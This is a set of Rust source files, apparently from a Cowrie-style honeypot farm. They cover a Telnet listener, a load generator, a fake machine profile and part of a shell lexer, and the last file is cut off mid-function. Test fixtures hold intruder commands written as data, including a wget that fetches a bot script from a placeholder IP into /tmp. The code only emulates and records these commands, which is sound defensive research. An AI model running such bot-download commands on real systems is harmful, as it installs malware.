        let _ = read_line(&mut s).await;
        s.write_all(b"cd /tmp; wget http://203.0.113.9/bot.sh\n").await.unwrap();
        let _ = read_line(&mut s).await;
        s.write_all(b"EXIT\n").await.unwrap();
        let rec = rx.recv().await.unwrap();
        assert_eq!(rec.uris, vec!["http://203.0.113.9/bot.sh".to_string()]);
        assert_eq!(rec.download_hashes.len(), 1);
        srv.shutdown();
    }
}
