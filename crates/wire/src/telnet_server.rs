//! Telnet honeypot listener (RFC 854 subset over Tokio TCP).
//!
//! Speaks just enough Telnet for IoT malware and scan tools: answers option
//! negotiation (accepting ECHO/SGA like BusyBox telnetd, refusing the rest),
//! runs the login dialogue, and hands authenticated clients the emulated
//! shell. All session semantics come from [`SessionDriver`]; this module only
//! does framing and IO.

use std::net::SocketAddr;
use std::time::Duration;

use bytes::BytesMut;
use hf_geo::Ip4;
use hf_honeypot::{AuthResult, HoneypotConfig, SessionDriver, SessionRecord};
use hf_proto::creds::Credentials;
use hf_proto::telnet::{
    self, encode_data, encode_negotiate, refusal_for, LineAssembler, TelnetDecoder, TelnetEvent,
};
use hf_proto::Protocol;
use hf_shell::{RemoteFetcher, SyntheticFetcher};
use hf_simclock::SimInstant;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::mpsc;

/// A running Telnet honeypot listener.
pub struct TelnetHoneypotServer {
    /// Address the listener is bound to.
    pub local_addr: SocketAddr,
    handle: tokio::task::JoinHandle<()>,
}

impl TelnetHoneypotServer {
    /// Bind and start serving. Finished session records go to `sink`.
    pub async fn start(
        addr: SocketAddr,
        config: HoneypotConfig,
        honeypot_id: u16,
        clock_base: SimInstant,
        sink: mpsc::UnboundedSender<SessionRecord>,
    ) -> std::io::Result<TelnetHoneypotServer> {
        let listener = TcpListener::bind(addr).await?;
        let local_addr = listener.local_addr()?;
        let handle = tokio::spawn(async move {
            loop {
                let Ok((stream, peer)) = listener.accept().await else {
                    break;
                };
                let config = config.clone();
                let sink = sink.clone();
                tokio::spawn(async move {
                    let rec =
                        handle_conn(stream, peer, config, honeypot_id, clock_base).await;
                    let _ = sink.send(rec);
                });
            }
        });
        Ok(TelnetHoneypotServer { local_addr, handle })
    }

    /// Stop accepting connections.
    pub fn shutdown(self) {
        self.handle.abort();
    }
}

fn peer_ip(peer: SocketAddr) -> Ip4 {
    match peer.ip() {
        std::net::IpAddr::V4(v4) => Ip4::from(v4),
        std::net::IpAddr::V6(v6) => v6
            .to_ipv4_mapped()
            .map(Ip4::from)
            .unwrap_or(Ip4::new(0, 0, 0, 0)),
    }
}

/// The dialogue phases.
enum Phase {
    Username,
    Password { username: String },
    Shell,
}

async fn handle_conn(
    mut stream: TcpStream,
    peer: SocketAddr,
    config: HoneypotConfig,
    honeypot_id: u16,
    clock_base: SimInstant,
) -> SessionRecord {
    let started = std::time::Instant::now();
    let preauth = Duration::from_secs(config.preauth_timeout_secs as u64);
    let idle = Duration::from_secs(config.idle_timeout_secs as u64);
    let hostname = config.profile.hostname.clone();
    let fetcher: Box<dyn RemoteFetcher> = Box::new(SyntheticFetcher);
    let mut driver = SessionDriver::accept(
        config,
        honeypot_id,
        Protocol::Telnet,
        peer_ip(peer),
        peer.port(),
        clock_base,
        fetcher,
    );

    // Initial negotiation + banner, like BusyBox telnetd.
    let mut out = BytesMut::new();
    encode_negotiate(telnet::WILL, telnet::option::ECHO, &mut out);
    encode_negotiate(telnet::WILL, telnet::option::SGA, &mut out);
    encode_data(format!("\r\n{hostname} login: ").as_bytes(), &mut out);
    if stream.write_all(&out).await.is_err() {
        driver.client_close();
        return driver.into_record();
    }

    let mut decoder = TelnetDecoder::new();
    let mut lines = LineAssembler::new();
    let mut phase = Phase::Username;
    let mut buf = [0u8; 1024];
    let mut last_activity = std::time::Instant::now();

    loop {
        let limit = if driver.authenticated() { idle } else { preauth };
        let elapsed = last_activity.elapsed();
        let Some(remaining) = limit.checked_sub(elapsed) else {
            advance_to(&mut driver, started);
            driver.advance(limit.as_secs() as u32 + 1);
            break;
        };
        let read = tokio::time::timeout(remaining, stream.read(&mut buf)).await;
        let n = match read {
            Err(_) => {
                // Wall-clock timeout: mirror it in the driver's clock.
                advance_to(&mut driver, started);
                driver.advance(limit.as_secs() as u32 + 1);
                break;
            }
            Ok(Err(_)) | Ok(Ok(0)) => {
                advance_to(&mut driver, started);
                driver.client_close();
                break;
            }
            Ok(Ok(n)) => n,
        };
        last_activity = std::time::Instant::now();
        let mut reply = BytesMut::new();
        for ev in decoder.feed(&buf[..n]) {
            match ev {
                TelnetEvent::Negotiate { verb, opt } => {
                    // Accept ECHO/SGA requests, refuse everything else.
                    if opt == telnet::option::ECHO || opt == telnet::option::SGA {
                        if verb == telnet::DO {
                            encode_negotiate(telnet::WILL, opt, &mut reply);
                        }
                    } else {
                        encode_negotiate(refusal_for(verb), opt, &mut reply);
                    }
                }
                TelnetEvent::Data(data) => {
                    for line in lines.push(&data) {
                        handle_line(&mut driver, &mut phase, &hostname, line, started, &mut reply);
                        if driver.finished() {
                            break;
                        }
                    }
                }
                TelnetEvent::Subnegotiation { .. } | TelnetEvent::Command(_) => {}
            }
        }
        if !reply.is_empty() && stream.write_all(&reply).await.is_err() {
            driver.client_close();
            break;
        }
        if driver.finished() {
            let _ = stream.shutdown().await;
            break;
        }
    }
    driver.into_record()
}

/// Sync the driver's simulated clock to wall time (whole seconds).
fn advance_to(driver: &mut SessionDriver, started: std::time::Instant) {
    let wall = started.elapsed().as_secs();
    let sim = driver.now().0;
    // `now` only moves via advance/activity; top it up to wall time.
    if wall > sim {
        // advance without triggering timeout bookkeeping surprises:
        // activity-resets happen in handle_line; here we just let idle grow.
        let _ = driver.advance((wall - sim) as u32);
    }
}

fn handle_line(
    driver: &mut SessionDriver,
    phase: &mut Phase,
    hostname: &str,
    line: String,
    started: std::time::Instant,
    reply: &mut BytesMut,
) {
    let think = think_secs(driver, started);
    match std::mem::replace(phase, Phase::Username) {
        Phase::Username => {
            encode_data(b"Password: ", reply);
            *phase = Phase::Password { username: line };
        }
        Phase::Password { username } => {
            match driver.offer_credentials(Credentials::new(&username, &line), think) {
                AuthResult::Accepted => {
                    encode_data(
                        format!("\r\nWelcome to {hostname}\r\nroot@{hostname}:~# ").as_bytes(),
                        reply,
                    );
                    *phase = Phase::Shell;
                }
                AuthResult::Rejected => {
                    encode_data(format!("\r\nLogin incorrect\r\n{hostname} login: ").as_bytes(), reply);
                    *phase = Phase::Username;
                }
                AuthResult::Disconnected => {
                    encode_data(b"\r\nLogin incorrect\r\n", reply);
                }
            }
        }
        Phase::Shell => {
            if let Some(output) = driver.run_command(&line, think) {
                encode_data(output.replace('\n', "\r\n").as_bytes(), reply);
                if !driver.finished() {
                    encode_data(format!("root@{hostname}:~# ").as_bytes(), reply);
                }
            }
            *phase = Phase::Shell;
        }
    }
}

/// Whole seconds of wall time not yet reflected in the driver clock.
fn think_secs(driver: &SessionDriver, started: std::time::Instant) -> u32 {
    let wall = started.elapsed().as_secs();
    let sim = driver.now().0;
    wall.saturating_sub(sim) as u32
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_shell::SystemProfile;

    async fn start_server() -> (TelnetHoneypotServer, mpsc::UnboundedReceiver<SessionRecord>) {
        let (tx, rx) = mpsc::unbounded_channel();
        let srv = TelnetHoneypotServer::start(
            "127.0.0.1:0".parse().unwrap(),
            HoneypotConfig::paper(SystemProfile::default()),
            7,
            SimInstant::EPOCH,
            tx,
        )
        .await
        .unwrap();
        (srv, rx)
    }

    #[tokio::test]
    async fn full_intrusion_session_over_tcp() {
        let (srv, mut rx) = start_server().await;
        let mut s = TcpStream::connect(srv.local_addr).await.unwrap();
        // Read banner.
        let mut buf = [0u8; 512];
        let _ = s.read(&mut buf).await.unwrap();
        s.write_all(b"root\r\n").await.unwrap();
        let _ = s.read(&mut buf).await.unwrap(); // Password:
        s.write_all(b"hunter2\r\n").await.unwrap();
        let n = s.read(&mut buf).await.unwrap();
        let text = String::from_utf8_lossy(&buf[..n]).to_string();
        assert!(text.contains("Welcome"), "{text}");
        s.write_all(b"uname -a\r\n").await.unwrap();
        let n = s.read(&mut buf).await.unwrap();
        let text = String::from_utf8_lossy(&buf[..n]).to_string();
        assert!(text.contains("Linux"), "{text}");
        s.write_all(b"echo pwn > /tmp/x\r\n").await.unwrap();
        let _ = s.read(&mut buf).await.unwrap();
        drop(s);
        let rec = rx.recv().await.unwrap();
        assert_eq!(rec.protocol, Protocol::Telnet);
        assert!(rec.login_succeeded());
        assert_eq!(rec.commands.len(), 2);
        assert_eq!(rec.file_hashes.len(), 1);
        srv.shutdown();
    }

    #[tokio::test]
    async fn failed_logins_disconnect_after_three() {
        let (srv, mut rx) = start_server().await;
        let mut s = TcpStream::connect(srv.local_addr).await.unwrap();
        let mut buf = [0u8; 512];
        let _ = s.read(&mut buf).await.unwrap();
        for _ in 0..3 {
            s.write_all(b"admin\r\n").await.unwrap();
            let _ = s.read(&mut buf).await.unwrap(); // Password:
            s.write_all(b"admin\r\n").await.unwrap();
            let _ = s.read(&mut buf).await; // Login incorrect (or close)
        }
        // Server should have closed; next read returns 0 eventually.
        let rec = rx.recv().await.unwrap();
        assert_eq!(rec.logins.len(), 3);
        assert!(!rec.login_succeeded());
        assert_eq!(rec.ended_by, hf_honeypot::EndReason::AuthLimit);
        srv.shutdown();
    }

    #[tokio::test]
    async fn scan_session_records_no_creds() {
        let (srv, mut rx) = start_server().await;
        let s = TcpStream::connect(srv.local_addr).await.unwrap();
        drop(s); // connect-and-close port scan
        let rec = rx.recv().await.unwrap();
        assert!(rec.logins.is_empty());
        assert!(rec.commands.is_empty());
        srv.shutdown();
    }

    #[tokio::test]
    async fn preauth_timeout_is_enforced() {
        let (tx, mut rx) = mpsc::unbounded_channel();
        let mut cfg = HoneypotConfig::paper(SystemProfile::default());
        cfg.preauth_timeout_secs = 1;
        let srv = TelnetHoneypotServer::start(
            "127.0.0.1:0".parse().unwrap(),
            cfg,
            0,
            SimInstant::EPOCH,
            tx,
        )
        .await
        .unwrap();
        let _s = TcpStream::connect(srv.local_addr).await.unwrap();
        // Do nothing; server must time the session out on its own.
        let rec = tokio::time::timeout(Duration::from_secs(5), rx.recv())
            .await
            .expect("timeout record arrives")
            .unwrap();
        assert_eq!(rec.ended_by, hf_honeypot::EndReason::Timeout);
        srv.shutdown();
    }

    #[tokio::test]
    async fn telnet_negotiation_is_answered() {
        let (srv, _rx) = start_server().await;
        let mut s = TcpStream::connect(srv.local_addr).await.unwrap();
        let mut buf = [0u8; 512];
        let n = s.read(&mut buf).await.unwrap();
        // Server opens with IAC WILL ECHO, IAC WILL SGA.
        assert!(buf[..n].windows(3).any(|w| w == [telnet::IAC, telnet::WILL, 1]));
        // Ask for an option the honeypot refuses (LINEMODE=34).
        s.write_all(&[telnet::IAC, telnet::DO, 34]).await.unwrap();
        let n = s.read(&mut buf).await.unwrap();
        assert!(buf[..n].windows(3).any(|w| w == [telnet::IAC, telnet::WONT, 34]));
        srv.shutdown();
    }
}
