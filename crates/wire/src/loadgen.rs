//! Wire-level load generator.
//!
//! Replays `.hfs` scenarios against a running [`LiveFarm`] (or an external
//! `hfarm serve` process) over real loopback TCP, at configurable
//! concurrency, from a single thread driving its own epoll instance — the
//! client-side twin of the farm reactor. Each driven session gets a
//! distinct synthetic attacker identity through the `@hfs client` control
//! line (loopback sockets cannot vary their source address), so the
//! collector sees a diverse client population even though every byte rides
//! `127/8`.
//!
//! Two concurrency shapes:
//!
//! * **rolling** (default) — at most `concurrency` sessions in flight;
//!   a finished session immediately admits the next. Measures sustained
//!   session throughput.
//! * **hold-all** — every session connects and writes its script, then
//!   *stays open* until all of them are up, and only then do the clients
//!   half-close and drain. This is the concurrency high-water proof: the
//!   farm holds `sessions` live connections simultaneously (visible in its
//!   `open_peak` stat) before any of them completes.
//!
//! [`LiveFarm`]: crate::LiveFarm

use std::collections::VecDeque;
use std::io::{ErrorKind, Read, Write};
use std::net::{Shutdown, TcpStream};
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

use hf_geo::Ip4;
use hf_proto::Protocol;
use hf_testkit::Scenario;

use crate::epoll::{self, Epoll};
use crate::farm::NodeAddrs;
use crate::script::wire_script_as;

/// Load-generation parameters.
#[derive(Debug, Clone)]
pub struct LoadgenConfig {
    /// Total sessions to drive.
    pub sessions: usize,
    /// Max sessions in flight (rolling mode).
    pub concurrency: usize,
    /// Hold every session open until all are connected, then release
    /// (concurrency proof mode; `concurrency` is ignored).
    pub hold_all: bool,
    /// Per-session inactivity limit before it counts as failed.
    pub io_timeout: Duration,
}

impl Default for LoadgenConfig {
    fn default() -> Self {
        LoadgenConfig {
            sessions: 100,
            concurrency: 32,
            hold_all: false,
            io_timeout: Duration::from_secs(60),
        }
    }
}

/// What a load-generation run did, client-side.
#[derive(Debug, Clone, Default)]
pub struct LoadgenReport {
    /// Connections successfully established (== the farm's `accepted` when
    /// nothing else talks to it).
    pub driven: u64,
    /// TCP connects that failed outright (never reached the farm).
    pub connect_errors: u64,
    /// Sessions that ran to server EOF.
    pub completed: u64,
    /// Sessions dropped by the client's own inactivity limit.
    pub failed: u64,
    /// Server bytes read across all sessions.
    pub bytes_in: u64,
    /// Wall time for the whole run.
    pub elapsed: Duration,
    /// Client-side peak of concurrently open sessions.
    pub peak_open: u64,
}

enum CState {
    /// Script bytes still to write.
    Writing,
    /// Fully written, held open (hold-all barrier).
    Held,
    /// Write side shut; reading to EOF.
    Drain,
}

struct CConn {
    sock: TcpStream,
    script: Vec<u8>,
    pos: usize,
    state: CState,
    last: Instant,
}

/// The synthetic attacker identity of driven session `i`.
fn client_identity(i: usize) -> (Ip4, u16) {
    let ip = Ip4::new(10, (i >> 16) as u8, (i >> 8) as u8, i as u8);
    (ip, 40000 + (i % 20000) as u16)
}

/// Drive `cfg.sessions` scenario replays against the farm's nodes.
/// Scenarios are assigned round-robin; each targets the node
/// `scenario.honeypot % nodes.len()` on its own protocol's listener.
pub fn run(nodes: &[NodeAddrs], scenarios: &[Scenario], cfg: &LoadgenConfig) -> LoadgenReport {
    assert!(!nodes.is_empty(), "loadgen needs at least one node");
    assert!(!scenarios.is_empty(), "loadgen needs at least one scenario");
    let started = Instant::now();
    let mut report = LoadgenReport::default();
    let ep = Epoll::new().expect("client epoll");
    let mut conns: Vec<Option<CConn>> = Vec::new();
    let mut free: Vec<usize> = Vec::new();
    let mut pending: VecDeque<usize> = (0..cfg.sessions).collect();
    let mut active: u64 = 0;
    let mut writing: u64 = 0;
    let mut released = !cfg.hold_all;
    let max_in_flight = if cfg.hold_all {
        cfg.sessions
    } else {
        cfg.concurrency.max(1)
    };
    let mut events = [epoll::Event::zeroed(); 256];

    loop {
        // Admit new sessions (bounded per iteration so IO stays serviced).
        let mut admitted = 0;
        while admitted < 256 && (active as usize) < max_in_flight {
            let Some(i) = pending.pop_front() else { break };
            admitted += 1;
            let sc = &scenarios[i % scenarios.len()];
            let node = nodes[sc.honeypot as usize % nodes.len()];
            let addr = match sc.protocol {
                Protocol::Ssh => node.ssh,
                Protocol::Telnet => node.telnet,
            };
            let (ip, port) = client_identity(i);
            let script = wire_script_as(sc, ip, port).into_bytes();
            let sock = match TcpStream::connect(addr) {
                Ok(s) => s,
                Err(_) => {
                    report.connect_errors += 1;
                    continue;
                }
            };
            report.driven += 1;
            if sock.set_nonblocking(true).is_err() {
                report.failed += 1;
                continue;
            }
            let _ = sock.set_nodelay(true);
            let slot = free.pop().unwrap_or_else(|| {
                conns.push(None);
                conns.len() - 1
            });
            let mut conn = CConn {
                sock,
                script,
                pos: 0,
                state: CState::Writing,
                last: Instant::now(),
            };
            active += 1;
            writing += 1;
            report.peak_open = report.peak_open.max(active);
            // Most scripts fit the socket buffer: try inline first.
            let mut done = false;
            step_write(&mut conn, released, &mut writing, &mut done);
            if done {
                // Immediate failure path: count and move on.
                active -= 1;
                report.failed += 1;
                free.push(slot);
                continue;
            }
            let interest = match conn.state {
                CState::Writing => epoll::IN | epoll::OUT,
                _ => epoll::IN,
            };
            if ep
                .add(conn.sock.as_raw_fd(), interest, slot as u64)
                .is_err()
            {
                active -= 1;
                report.failed += 1;
                free.push(slot);
                continue;
            }
            conns[slot] = Some(conn);
        }

        // Hold-all release: everything is connected and written; let go.
        if !released && pending.is_empty() && writing == 0 {
            released = true;
            for conn in conns.iter_mut().flatten() {
                if matches!(conn.state, CState::Held) {
                    let _ = conn.sock.shutdown(Shutdown::Write);
                    conn.state = CState::Drain;
                    conn.last = Instant::now();
                }
            }
        }

        if active == 0 && pending.is_empty() {
            break;
        }

        let n = ep.wait(&mut events, 20).unwrap_or(0);
        let mut closed: Vec<usize> = Vec::new();
        for ev in events.iter().take(n) {
            let slot = ev.token() as usize;
            let Some(conn) = conns.get_mut(slot).and_then(Option::as_mut) else {
                continue;
            };
            let readiness = ev.readiness();
            if readiness & epoll::OUT != 0 && matches!(conn.state, CState::Writing) {
                let was_writing = matches!(conn.state, CState::Writing);
                let mut dead = false;
                step_write(conn, released, &mut writing, &mut dead);
                if dead {
                    // Server went away mid-write; keep reading for its
                    // final bytes, EOF/reset will complete the session.
                    conn.state = CState::Drain;
                }
                if was_writing && !matches!(conn.state, CState::Writing) {
                    let _ = ep.modify(conn.sock.as_raw_fd(), epoll::IN, slot as u64);
                }
                conn.last = Instant::now();
            }
            if readiness & (epoll::IN | epoll::RDHUP | epoll::HUP | epoll::ERR) != 0 {
                let mut buf = [0u8; 4096];
                loop {
                    match conn.sock.read(&mut buf) {
                        Ok(0) => {
                            report.completed += 1;
                            closed.push(slot);
                            break;
                        }
                        Ok(n) => {
                            report.bytes_in += n as u64;
                            conn.last = Instant::now();
                        }
                        Err(e) if e.kind() == ErrorKind::WouldBlock => break,
                        Err(e) if e.kind() == ErrorKind::Interrupted => continue,
                        Err(_) => {
                            // Reset counts as a completed (server-ended)
                            // session: the farm recorded it before closing.
                            report.completed += 1;
                            closed.push(slot);
                            break;
                        }
                    }
                }
            }
        }
        for slot in closed {
            if let Some(conn) = conns[slot].take() {
                if matches!(conn.state, CState::Writing) {
                    writing -= 1;
                }
                let _ = ep.del(conn.sock.as_raw_fd());
                active -= 1;
                free.push(slot);
            }
        }

        // Inactivity sweep.
        let now = Instant::now();
        for (slot, entry) in conns.iter_mut().enumerate() {
            let timed_out = entry
                .as_ref()
                .is_some_and(|c| !matches!(c.state, CState::Held) && now - c.last > cfg.io_timeout);
            if timed_out {
                let conn = entry.take().expect("checked");
                if matches!(conn.state, CState::Writing) {
                    writing -= 1;
                }
                let _ = ep.del(conn.sock.as_raw_fd());
                active -= 1;
                free.push(slot);
                report.failed += 1;
            }
        }
    }
    report.elapsed = started.elapsed();
    report
}

/// Push script bytes; transitions Writing → Held/Drain when done. Sets
/// `dead` on a hard write error (peer gone).
fn step_write(conn: &mut CConn, released: bool, writing: &mut u64, dead: &mut bool) {
    if !matches!(conn.state, CState::Writing) {
        return;
    }
    while conn.pos < conn.script.len() {
        match conn.sock.write(&conn.script[conn.pos..]) {
            Ok(0) => break,
            Ok(n) => conn.pos += n,
            Err(e) if e.kind() == ErrorKind::WouldBlock => return,
            Err(e) if e.kind() == ErrorKind::Interrupted => continue,
            Err(_) => {
                *writing -= 1;
                *dead = true;
                return;
            }
        }
    }
    *writing -= 1;
    if released {
        let _ = conn.sock.shutdown(Shutdown::Write);
        conn.state = CState::Drain;
    } else {
        conn.state = CState::Held;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::conn::Timing;
    use crate::farm::{FarmConfig, LiveFarm};

    fn corpus() -> Vec<Scenario> {
        vec![
            Scenario::parse("name lg_ssh\nprotocol ssh\nlogin root pw\ncmd uname -a\nclose\n")
                .unwrap(),
            Scenario::parse("name lg_telnet\nprotocol telnet\nhoneypot 1\nlogin root pw\nclose\n")
                .unwrap(),
        ]
    }

    #[test]
    fn rolling_load_accounts_every_session() {
        let farm = LiveFarm::start(FarmConfig {
            nodes: 2,
            timing: Timing::Virtual,
            per_ip_cap: 1 << 30,
            ..FarmConfig::default()
        })
        .unwrap();
        let report = run(
            farm.nodes(),
            &corpus(),
            &LoadgenConfig {
                sessions: 40,
                concurrency: 8,
                ..LoadgenConfig::default()
            },
        );
        let out = farm.shutdown();
        assert_eq!(report.connect_errors, 0);
        assert_eq!(report.driven, 40);
        assert_eq!(out.stats.accepted(), 40);
        assert_eq!(
            out.stats.ingested() + out.stats.rejected_ip_cap(),
            report.driven
        );
        assert_eq!(out.dataset.len(), 40);
    }

    #[test]
    fn hold_all_overlaps_every_session() {
        let farm = LiveFarm::start(FarmConfig {
            nodes: 1,
            timing: Timing::Virtual,
            per_ip_cap: 1 << 30,
            ..FarmConfig::default()
        })
        .unwrap();
        let stats = farm.stats();
        let sc = vec![Scenario::parse("name hold\nprotocol ssh\nlogin root pw\n").unwrap()];
        let report = run(
            farm.nodes(),
            &sc,
            &LoadgenConfig {
                sessions: 50,
                hold_all: true,
                ..LoadgenConfig::default()
            },
        );
        let out = farm.shutdown();
        assert_eq!(report.driven, 50);
        assert_eq!(report.peak_open, 50, "all sessions overlapped client-side");
        assert!(
            stats.open_peak() >= 50,
            "farm held all sessions concurrently (peak {})",
            stats.open_peak()
        );
        assert_eq!(out.stats.ingested(), 50);
        assert!(out.stats.accounting_balanced());
    }
}
