//! The fake machine identity presented by the emulated shell.
//!
//! Cowrie impersonates a small Linux box; what exactly `uname`, `free`, and
//! `cat /proc/cpuinfo` print comes from a profile like this one. Keeping the
//! identity in data (rather than hard-coded strings) lets the farm deploy
//! honeypots with subtly different personalities and lets ablation benches
//! measure whether that matters.

use serde::{Deserialize, Serialize};

/// Machine identity used to render system-information command output.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SystemProfile {
    /// Hostname, e.g. `svr04`.
    pub hostname: String,
    /// Kernel release, e.g. `4.14.67`.
    pub kernel_version: String,
    /// Kernel build date string.
    pub build_date: String,
    /// Machine hardware name (`uname -m`).
    pub arch: String,
    /// CPU model string for /proc/cpuinfo.
    pub cpu_model: String,
    /// Number of CPU cores.
    pub cpu_cores: u32,
    /// Total RAM in megabytes.
    pub mem_total_mb: u64,
    /// A non-root local account present in /etc/passwd.
    pub service_user: String,
}

impl Default for SystemProfile {
    fn default() -> Self {
        SystemProfile {
            hostname: "svr04".to_string(),
            kernel_version: "4.14.67".to_string(),
            build_date: "Tue Aug 28 10:10:18 UTC 2018".to_string(),
            arch: "x86_64".to_string(),
            cpu_model: "Intel(R) Celeron(R) CPU J1900 @ 1.99GHz".to_string(),
            cpu_cores: 2,
            mem_total_mb: 1024,
            service_user: "service".to_string(),
        }
    }
}

impl SystemProfile {
    /// A profile derived from an index, used by the farm so the 221 honeypots
    /// don't all present the identical hostname (which would be a trivially
    /// fingerprintable tell; cf. the honeypot-detection literature the paper
    /// cites).
    pub fn for_node(index: u32) -> Self {
        let archs = ["x86_64", "i686", "armv7l", "mips"];
        let kernels = ["4.14.67", "4.19.0", "3.10.14", "5.10.103"];
        let cpus = [
            "Intel(R) Celeron(R) CPU J1900 @ 1.99GHz",
            "ARMv7 Processor rev 5 (v7l)",
            "Intel(R) Atom(TM) CPU D525 @ 1.80GHz",
            "MIPS 24Kc V5.0",
        ];
        let i = index as usize;
        SystemProfile {
            hostname: format!("svr{:02}", (index % 64) + 1),
            kernel_version: kernels[i % kernels.len()].to_string(),
            build_date: "Tue Aug 28 10:10:18 UTC 2018".to_string(),
            arch: archs[i % archs.len()].to_string(),
            cpu_model: cpus[i % cpus.len()].to_string(),
            cpu_cores: 1 + (index % 4),
            mem_total_mb: [256u64, 512, 1024, 2048][i % 4],
            service_user: "service".to_string(),
        }
    }

    /// Render `/proc/cpuinfo`.
    pub fn cpuinfo(&self) -> String {
        let mut out = String::new();
        for core in 0..self.cpu_cores {
            out.push_str(&format!(
                "processor\t: {core}\nvendor_id\t: GenuineIntel\nmodel name\t: {}\ncpu MHz\t\t: 1999.000\ncache size\t: 1024 KB\n\n",
                self.cpu_model
            ));
        }
        out
    }

    /// Render `/proc/meminfo`.
    pub fn meminfo(&self) -> String {
        let total_kb = self.mem_total_mb * 1024;
        let free_kb = total_kb * 3 / 5;
        format!(
            "MemTotal:       {total_kb:>8} kB\nMemFree:        {free_kb:>8} kB\nBuffers:           12340 kB\nCached:           145624 kB\nSwapTotal:             0 kB\nSwapFree:              0 kB\n"
        )
    }

    /// Render the `uname -a` line.
    pub fn uname_all(&self) -> String {
        format!(
            "Linux {} {} #1 SMP {} {} GNU/Linux",
            self.hostname, self.kernel_version, self.build_date, self.arch
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_profile_renders() {
        let p = SystemProfile::default();
        assert!(p.uname_all().starts_with("Linux svr04 4.14.67"));
        assert!(p.cpuinfo().matches("processor").count() == 2);
        assert!(p.meminfo().contains("MemTotal"));
    }

    #[test]
    fn node_profiles_vary() {
        let a = SystemProfile::for_node(0);
        let b = SystemProfile::for_node(1);
        assert_ne!(a.hostname, b.hostname);
        assert_ne!(a.arch, b.arch);
    }

    #[test]
    fn node_profiles_deterministic() {
        assert_eq!(SystemProfile::for_node(17), SystemProfile::for_node(17));
    }
}
