//! Shell input tokenizer and statement splitter.
//!
//! Handles the subset of POSIX shell syntax that honeypot intruders actually
//! use (and that Cowrie parses): single/double quotes, backslash escapes,
//! word splitting, statement separators (`;`, `&&`, `||`, `&`, newline),
//! pipelines (`|`), and redirections (`>`, `>>`, `<`, `2>`, `2>&1`).
//! Variable and command substitution are *not* expanded — intruder scripts
//! are recorded and emulated, not faithfully interpreted — matching Cowrie's
//! medium-interaction behaviour.

use serde::{Deserialize, Serialize};

/// One token from the lexer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Token {
    /// A word (after quote/escape processing).
    Word(String),
    /// `;`, `&`, or newline.
    Semi,
    /// `&&`
    AndIf,
    /// `||`
    OrIf,
    /// `|`
    Pipe,
    /// `>` (fd 1)
    RedirOut,
    /// `>>` (fd 1, append)
    RedirAppend,
    /// `<`
    RedirIn,
    /// `2>`
    RedirErr,
    /// `2>&1`
    RedirErrToOut,
}

/// A redirection attached to a simple command.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Redirection {
    /// `> target`
    Out(String),
    /// `>> target`
    Append(String),
    /// `< source`
    In(String),
    /// `2> target` (the honeypot discards stderr, but records the file write
    /// unless the target is /dev/null)
    Err(String),
    /// `2>&1`
    ErrToOut,
}

/// A simple command: argv plus redirections.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct SimpleCommand {
    /// Command name and arguments, in order. May be empty for bare
    /// redirections like `> file`.
    pub argv: Vec<String>,
    /// Redirections in source order.
    pub redirs: Vec<Redirection>,
}

impl SimpleCommand {
    /// Command name, if any.
    pub fn name(&self) -> Option<&str> {
        self.argv.first().map(|s| s.as_str())
    }
}

/// A statement: one pipeline (possibly a single command) plus the separator
/// that ended it. `cmd1 | cmd2 && cmd3` produces two statements.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Statement {
    /// The commands in the pipeline, left to right.
    pub pipeline: Vec<SimpleCommand>,
    /// How this statement was chained to the *next* one.
    pub chain: Chain,
}

/// Chaining operator between statements.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Chain {
    /// `;`, `&`, newline, or end of input.
    Always,
    /// `&&` — next runs only on success (the emulator treats all emulated
    /// commands as succeeding, so this matters only for bookkeeping).
    And,
    /// `||`
    Or,
}

/// The tokenizer.
pub struct Lexer<'a> {
    src: &'a [u8],
    pos: usize,
}

impl<'a> Lexer<'a> {
    /// Lex a full input string into tokens.
    pub fn new(src: &'a str) -> Self {
        Lexer {
            src: src.as_bytes(),
            pos: 0,
        }
    }

    fn peek(&self) -> Option<u8> {
        self.src.get(self.pos).copied()
    }

    fn bump(&mut self) -> Option<u8> {
        let b = self.peek()?;
        self.pos += 1;
        Some(b)
    }

    /// Produce all tokens. The lexer is total: any byte sequence yields a
    /// token stream (unterminated quotes consume to end of input, like most
    /// shells in non-interactive mode).
    pub fn tokenize(mut self) -> Vec<Token> {
        let mut out = Vec::new();
        loop {
            // Skip horizontal whitespace.
            while matches!(self.peek(), Some(b' ') | Some(b'\t')) {
                self.pos += 1;
            }
            let Some(b) = self.peek() else { break };
            match b {
                b'\n' | b';' => {
                    self.pos += 1;
                    out.push(Token::Semi);
                }
                b'&' => {
                    self.pos += 1;
                    if self.peek() == Some(b'&') {
                        self.pos += 1;
                        out.push(Token::AndIf);
                    } else {
                        out.push(Token::Semi); // background `&` ends a statement
                    }
                }
                b'|' => {
                    self.pos += 1;
                    if self.peek() == Some(b'|') {
                        self.pos += 1;
                        out.push(Token::OrIf);
                    } else {
                        out.push(Token::Pipe);
                    }
                }
                b'>' => {
                    self.pos += 1;
                    if self.peek() == Some(b'>') {
                        self.pos += 1;
                        out.push(Token::RedirAppend);
                    } else {
                        out.push(Token::RedirOut);
                    }
                }
                b'<' => {
                    self.pos += 1;
                    out.push(Token::RedirIn);
                }
                b'2' if self.src.get(self.pos + 1) == Some(&b'>') => {
                    // `2>` / `2>&1` only when `2` starts a word.
                    self.pos += 2;
                    if self.src.get(self.pos) == Some(&b'&')
                        && self.src.get(self.pos + 1) == Some(&b'1')
                    {
                        self.pos += 2;
                        out.push(Token::RedirErrToOut);
                    } else {
                        out.push(Token::RedirErr);
                    }
                }
                _ => {
                    let w = self.read_word();
                    out.push(Token::Word(w));
                }
            }
        }
        out
    }

    /// Read one word, processing quotes and escapes.
    fn read_word(&mut self) -> String {
        let mut w = String::new();
        while let Some(b) = self.peek() {
            match b {
